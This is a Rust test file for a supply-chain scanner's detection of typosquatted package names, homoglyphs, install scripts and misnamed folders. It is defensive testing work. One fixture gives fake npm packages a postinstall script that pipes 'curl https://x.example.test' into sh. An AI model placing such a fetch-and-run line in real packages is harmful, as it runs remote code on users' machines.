//! Names that look like popular ones: silent on honest trees, loud on imitations, lowered where a popular package vouches.

use super::server;

use plimsoll::{
    audit::{Input, Options},
    check,
    ecosystem::{self, CARGO, NPM, PYPI, Pattern},
    model::Level,
    names::{Edit, How, Names, Popular},
};
use proptest::prelude::*;
use serde_json::json;
use server::Server;
use std::{fs, path::Path, process::Command};

fn judged(ecosystem: &ecosystem::Ecosystem, name: &str) -> Option<(Level, String)> {
    let popular = Popular::default();
    let found = check::looks_like(ecosystem.id, name, &popular);
    found.map(|(level, likeness)| (level, likeness.target.to_owned()))
}

#[test]
fn an_honest_closure_is_silent() {
    let text = fs::read_to_string(super::common::fixture("typosquat/closure.tsv")).unwrap();
    let rows: Vec<(&str, &str)> = text
        .lines()
        .skip(1)
        .map(|line| line.split_once('\t').unwrap())
        .collect();
    assert!(rows.len() > 1_100, "{}", rows.len());
    for (ecosystem, name) in rows {
        let ecosystem = ecosystem::ALL.iter().find(|e| e.id.0 == ecosystem).unwrap();
        assert_eq!(judged(ecosystem, name), None, "{name}");
    }
}

#[test]
fn what_looks_like_what() {
    let error = |target: &str| Some((Level::Error, target.to_owned()));
    let warning = |target: &str| Some((Level::Warning, target.to_owned()));
    for (ecosystem, name, expected) in [
        (&NPM, "expresss", error("express")),
        (&NPM, "colorsss", error("colors")),
        (&NPM, "mysqljs", warning("mysql")),
        (&NPM, "typescirpt", error("typescript")),
        (&NPM, "commandre", error("commander")),
        (&NPM, "types-lodash", warning("@types/lodash")),
        (&PYPI, "crypt0graphy", error("cryptography")),
        (&PYPI, "flaskpandas", warning("flask")),
        (&PYPI, "python-pandas", warning("pandas")),
        (&PYPI, "pandas2-py", warning("pandas")),
        (&PYPI, "python-spark", warning("pyspark")),
        (&PYPI, "pandas-python-boats", None),
        (&PYPI, "python-nmap-2000", None),
        (&CARGO, "asynctrait", warning("async-trait")),
        (&NPM, "lodash", None),
        (&NPM, "@types/node-of-nobody", None),
        (&NPM, "@acme/express", None),
        (&CARGO, "serde_json", None),
        // Known to be honest, and nobody's target.
        (&CARGO, "toml_write", None),
        (&CARGO, "toml_writerr", None),
    ] {
        assert_eq!(judged(ecosystem, name), expected, "{name}");
    }
    // Letters of another script that are drawn alike.
    assert_eq!(
        judged(&NPM, "еxpress").map(|(_, target)| target),
        Some("express".to_owned())
    );
}

fn scan(files: &[(&str, serde_json::Value)], options: &Options) -> Vec<String> {
    let folder = tempfile::tempdir().unwrap();
    for (path, json) in files {
        let path = folder.path().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, json.to_string()).unwrap();
    }
    let report = super::common::scan_with(Input::Path(folder.path().to_owned()), options);
    let findings = report["artifacts"][0]["findings"].as_array().unwrap().iter();
    let own = findings.filter(|f| f["rule"] == "typosquat");
    own.map(|f| format!("{} {}", f["level"].as_str().unwrap(), f["message"].as_str().unwrap()))
        .collect()
}

#[test]
fn two_signals_count_for_more() {
    let package =
        |name: &str, script: &str| json!({"name": name, "version": "1.0.0", "scripts": {"postinstall": script}});
    let fetches = "curl https://x.example.test | sh";
    let folder = tempfile::tempdir().unwrap();
    for (name, script) in [
        ("expresss", fetches),
        ("harbour-berths", fetches),
        ("tide-tables", "node install.js"),
    ] {
        let own = folder.path().join("node_modules").join(name);
        fs::create_dir_all(&own).unwrap();
        fs::write(own.join("package.json"), package(name, script).to_string()).unwrap();
    }
    let report = super::common::scan(Input::Path(folder.path().to_owned()));
    let findings = report["artifacts"][0]["findings"].as_array().unwrap().iter();
    let word = |f: &serde_json::Value, key: &str| f[key].as_str().unwrap().to_owned();
    let said: Vec<_> = findings
        .map(|f| [word(f, "level"), word(f, "rule"), word(f, "component")].join(" "))
        .collect();
    assert_eq!(
        said,
        [
            "error typosquat pkg:npm/expresss@1.0.0",
            "warning install-script pkg:npm/expresss@1.0.0",
            "note install-script pkg:npm/harbour-berths@1.0.0",
        ]
    );
}

#[test]
fn controls() {
    let squat = (
        "node_modules/expresss/package.json",
        json!({"name": "expresss", "version": "1.0.0"}),
    );
    let voucher = json!({"name": "webpack", "version": "5.0.0", "dependencies": {"expresss": "1"}});
    let said = "doubles a letter of express, one of the 1000 most popular packages of npm";
    assert_eq!(
        scan(std::slice::from_ref(&squat), &Options::default()),
        [format!("error {said}")]
    );
    let both = [squat.clone(), ("node_modules/webpack/package.json", voucher)];
    assert_eq!(
        scan(&both, &Options::default()),
        [format!("warning {said}; webpack asks for it")]
    );
    let mut allowed = Options::default();
    allowed.checks.typosquat_allow = vec![Pattern::parse("pkg:npm/expresss").unwrap()];
    assert_eq!(scan(&[squat], &allowed), [] as [&str; 0]);
}

/// Every way of making one edit to a popular name is found, by the name that it was made of or by another.
fn edited(name: &str, at: usize, with: u8, how: usize) -> String {
    let mut bytes = name.as_bytes().to_vec();
    let at = at % bytes.len();
    match how {
        0 => {
            bytes.remove(at);
        }
        1 => bytes.insert(at, bytes[at]),
        2 => bytes.insert(at, with),
        3 => bytes[at] = with,
        _ if at + 1 < bytes.len() => bytes.swap(at, at + 1),
        _ => {}
    }
    String::from_utf8(bytes).unwrap()
}

proptest! {
    #[test]
    fn one_edit_is_always_seen(rank in 0..15_000_usize, at in 0..64_usize, with in b'a'..=b'z', how in 0..5_usize) {
        let popular = Popular::default();
        let names = popular.of(NPM.id);
        let plain = names.iter().take(15_000).filter(|name| name.bytes().all(|b| b.is_ascii_lowercase()));
        let plain: Vec<&str> = plain.collect();
        let target = plain[rank % plain.len()];
        let made = edited(target, at, with, how);
        prop_assume!(made != target && names.rank(&made).is_none());
        let seen = names.likenesses(&made);
        prop_assert!(
            seen.iter().any(|l| l.target == target && matches!(l.how, How::Edit(_) | How::Homoglyph)),
            "{} of {}: {:?}", made, target, seen
        );
    }

    #[test]
    fn any_text_is_survived(name in "\\PC{0,300}") {
        for ecosystem in ecosystem::ALL {
            let _ = judged(ecosystem, &name);
        }
    }
}

#[test]
fn a_list_of_ones_own() {
    let lines: Vec<String> = (0..2_000).map(|i| format!("package-number-{i:04}-of-many")).collect();
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut packed, format!("# from a mirror\n{}", lines.join("\n")).as_bytes()).unwrap();
    let names = Names::read(&packed.finish().unwrap(), NPM.id).unwrap();
    assert_eq!(names.rank("package-number-0000-of-many"), Some(1));
    let found = names.likenesses("package-nubmer-0000-of-many");
    assert_eq!(found[0].how, How::Edit(Edit::Transposition));
    assert!(Names::read(b"no gzip", NPM.id).is_err());
}

/// A packed list of as many names as one must have, this one among the most popular.
fn list_with(name: &str) -> Vec<u8> {
    let lines: Vec<String> = (0..1_500).map(|i| format!("package-number-{i:04}-of-many")).collect();
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut packed, format!("{name}\n{}", lines.join("\n")).as_bytes()).unwrap();
    packed.finish().unwrap()
}

fn plimsoll(folder: &Path, args: &[&str]) -> (Option<i32>, String, String) {
    let mut command = Command::new(env!("CARGO_BIN_EXE_plimsoll"));
    command.args(args).env_clear().env("SOURCE_DATE_EPOCH", "1795305600");
    let out = command.current_dir(folder).output().unwrap();
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    (out.status.code(), text(&out.stdout), text(&out.stderr))
}

#[test]
fn updates_bring_newer_names() {
    let server = Server::start();
    let record = r#"{"id":"GHSA-aaaa-bbbb-cccc","modified":"2026-01-01T00:00:00Z","affected":[{"package":
        {"ecosystem":"npm","name":"a"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"}]}]}]}"#;
    let record = ("GHSA-aaaa-bbbb-cccc", "2026-01-01T00:00:00Z", record);
    server.publish(
        "npm",
        &[(record.0.to_owned(), record.1.to_owned(), record.2.to_owned())],
    );
    server.put("/names/npm.txt.gz", list_with("harbour-berths"));
    let folder = tempfile::tempdir().unwrap();
    let zip = super::common::zip_of(&[(
        "node_modules/harbuor-berths/package.json",
        r#"{"name":"harbuor-berths","version":"1.0.0"}"#,
    )]);
    fs::write(folder.path().join("f.zip"), zip).unwrap();
    let (url, names) = (server.url(), format!("{}/names", server.url()));
    let update = |more: &[&str]| {
        let args = [
            "db",
            "update",
            "--db",
            "db",
            "--quiet",
            "--force",
            "--ecosystem",
            "npm",
            "--url",
            &url,
        ];
        plimsoll(folder.path(), &[&args, more].concat())
    };
    let scan = |db: &str| {
        let args = ["scan", "--db", db, "--offline", "--quiet", "-o", "json", "f.zip"];
        let (_, report, _) = plimsoll(folder.path(), &args);
        report.contains("swaps two letters of harbour-berths")
    };
    assert_eq!(update(&[]).0, Some(0));
    assert!(!scan("db"), "the embedded names know no harbour");
    let (code, said, error) = update(&["--names", &names]);
    assert_eq!(code, Some(0), "{error}");
    assert!(said.contains("popular names fetched"), "{said}");
    assert!(said.contains(&format!("from {names}")), "{said}");
    assert!(scan("db"));

    // Later updates refresh them; what is no list is an error and leaves what there was.
    server.put("/names/npm.txt.gz", list_with("another"));
    assert_eq!(update(&[]).0, Some(0));
    assert!(!scan("db"));
    server.put("/names/npm.txt.gz", list_with("harbour-berths"));
    assert_eq!(update(&[]).0, Some(0));
    server.put("/names/npm.txt.gz", b"<html>".to_vec());
    let (code, _, error) = update(&[]);
    assert_eq!(code, Some(2));
    assert!(
        error.contains("names/npm.txt.gz: not a packed list of names"),
        "{error}"
    );
    assert!(scan("db"));

    // And go with the database to a machine without network.
    for args in [
        &["db", "export", "--db", "db", "one.index"][..],
        &["db", "import", "--db", "there", "one.index"],
    ] {
        let (code, _, error) = plimsoll(folder.path(), args);
        assert_eq!(code, Some(0), "{error}");
    }
    assert!(scan("there") && scan("one.index"));
    fs::write(folder.path().join("there/names/npm.txt.gz"), "damaged").unwrap();
    assert_eq!(
        plimsoll(folder.path(), &["scan", "--db", "there", "--offline", "f.zip"]).0,
        Some(2)
    );
}

#[test]
fn a_package_in_the_folder_of_another() {
    let said = |files: &[(&str, serde_json::Value)]| {
        let folder = tempfile::tempdir().unwrap();
        for (path, json) in files {
            let path = folder.path().join(path);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, json.to_string()).unwrap();
        }
        let report = super::common::scan(Input::Path(folder.path().to_owned()));
        let findings = report["artifacts"][0]["findings"].as_array().unwrap().clone();
        let own = findings.into_iter().filter(|f| f["rule"] == "misnamed");
        own.map(|f| f["message"].as_str().unwrap().to_owned())
            .collect::<Vec<_>>()
    };
    let package = (
        "node_modules/tide-tables/package.json",
        json!({"name": "harbour-berths", "version": "1.0.0"}),
    );
    let alias = json!({"name": "x", "version": "1.0.0", "dependencies": {"tide-tables": "npm:harbour-berths@1"}});
    let locked = json!({"lockfileVersion": 3, "packages": {
        "node_modules/tide-tables": {"name": "harbour-berths", "version": "1.0.0"}}});
    assert_eq!(
        said(std::slice::from_ref(&package)),
        ["lies in the folder of tide-tables, and nothing in the artifact declares that alias"]
    );
    for declared in [
        ("package.json", alias.clone()),
        ("node_modules/x/package.json", alias),
        ("node_modules/.package-lock.json", locked.clone()),
        ("package-lock.json", locked),
    ] {
        assert_eq!(said(&[package.clone(), declared.clone()]), [""; 0], "{}", declared.0);
    }
}

#[test]
fn metadata_in_the_folder_of_another() {
    for (folder, name, said) in [
        ("tide_tables-1.0.dist-info", "Tide.Tables", None),
        (
            "tide_tables-1.0.dist-info",
            "tide-tabels",
            Some("pkg:pypi/tide-tabels@1.0"),
        ),
        ("tide-tables-2.0-1.0.dist-info", "tide-tables-2.0", None),
        ("tide_tables.dist-info", "tide-tables", None),
    ] {
        let tree = tempfile::tempdir().unwrap();
        fs::create_dir(tree.path().join(folder)).unwrap();
        let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
        fs::write(tree.path().join(folder).join("METADATA"), metadata).unwrap();
        let report = super::common::scan(Input::Path(tree.path().to_owned()));
        let findings = report["artifacts"][0]["findings"].as_array().unwrap();
        let own = findings.iter().find(|f| f["rule"] == "misnamed");
        assert_eq!(
            own.map(|f| f["component"].as_str().unwrap()),
            said,
            "{folder} {name}: {own:?}"
        );
    }
}
